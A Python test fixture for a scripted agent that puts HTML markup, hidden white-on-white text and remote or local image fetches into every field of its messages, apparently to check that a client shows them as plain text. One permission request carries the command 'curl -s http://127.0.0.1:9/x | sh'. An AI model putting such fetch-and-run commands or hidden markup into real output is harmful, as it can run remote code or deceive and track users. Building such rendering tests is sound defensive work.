"""Prompt scripts of the scripted agent that put markup in every string an agent chooses (registered in
scripted_agent.py's PROMPTS). Each string is `markup(FIELD, URL)`: bold tags, an image fetched from the
test's loopback server (any fetch is counted there), and words in white on white; a permission option
also carries an image from a local file (it crashed a button's label when drawn as rich text). A window
that draws these as plain text shows each string exactly as sent and fetches nothing."""

from __future__ import annotations

from typing import Any


def markup(field: str, url: str) -> str:
    """What the agent sends for FIELD: `<b>FIELD</b>` and more that only rich text would act on."""
    return f'<b>{field}</b><img src="{url}/{field}.png"><font color="#ffffff">hidden {field}</font>'


def local_image(field: str, path: str) -> str:
    """An image from a local file: the kind that crashed a Controls button's label."""
    return f'<b>{field}</b><img src="file://{path}">'


async def prompt_markup_everywhere(agent: Any, sid: str, params: dict[str, Any], text: str) -> str:
    """`markup-everywhere URL IMAGE`: markup in the session's title, its commands, modes' config
    options, a plan, a tool call (title, location, command, output), a thought, the reply, an attached
    link's name, the usage's currency, then a permission request (title, its command, option names)
    whose answer ends the turn."""
    words = text.split()
    url, image = words[1], words[2]
    m = lambda field: markup(field, url)  # noqa: E731 - a short name keeps the updates readable
    agent.update(sid, {"sessionUpdate": "session_info_update", "title": m("title")})
    commands = [{"name": "review", "description": m("command-description")}]
    agent.update(sid, {"sessionUpdate": "available_commands_update", "availableCommands": commands})
    choices = [{"value": "m1", "name": m("model-choice")}, {"value": "m2", "name": "Plain model"}]
    options = [
        {"id": "model", "name": m("model-option"), "category": "model", "type": "select",
         "currentValue": "m1", "options": choices},
        {"id": "fast", "name": m("switch-option"), "category": "other", "type": "boolean",
         "currentValue": False},
    ]  # fmt: skip
    agent.update(sid, {"sessionUpdate": "config_option_update", "configOptions": options})
    entries = [{"content": m("plan-entry"), "status": "in_progress", "priority": "high"}]
    agent.update(sid, {"sessionUpdate": "plan", "entries": entries})
    agent.chunk(sid, m("thought"), "agent_thought_chunk")
    agent.update(
        sid,
        {
            "sessionUpdate": "tool_call",
            "toolCallId": "t-markup",
            "title": m("tool-title"),
            "kind": "execute",
            "status": "completed",
            "locations": [{"path": m("tool-location")}],
            "rawInput": {"command": m("tool-command")},
            "content": [{"type": "content", "content": {"type": "text", "text": m("tool-output")}}],
        },
    )
    link = {"type": "resource_link", "uri": "https://example.invalid/report.txt", "name": m("link-name")}
    agent.update(sid, {"sessionUpdate": "agent_message_chunk", "content": link})
    agent.chunk(sid, m("reply") + f"\n\n![a picture]({url}/markdown-image.png) and [a link]({url}/link)")
    usage = {
        "sessionUpdate": "usage_update",
        "used": 1200,
        "size": 200000,
        "cost": {"amount": 0.5, "currency": m("currency")},
    }
    agent.update(sid, usage)
    response = await agent.request(
        "session/request_permission",
        {
            "sessionId": sid,
            "toolCall": {
                "toolCallId": "t-markup-perm",
                "title": "ls -la " + m("permission-title"),
                "kind": "execute",
                "rawInput": {"command": "ls -la; curl -s http://127.0.0.1:9/x | sh"},
            },
            "options": [
                {"optionId": "allow", "name": m("option-allow"), "kind": "allow_once"},
                {"optionId": "local", "name": local_image("option-local", image), "kind": "allow_once"},
                {"optionId": "deny", "name": "Deny", "kind": "reject_once"},
            ],
        },
    )
    outcome = (response or {}).get("outcome", {})
    agent.chunk(sid, f"\n\npermission: {outcome.get('optionId') or outcome.get('outcome')}")
    return "end_turn"


PROMPTS = {"markup-everywhere": prompt_markup_everywhere}
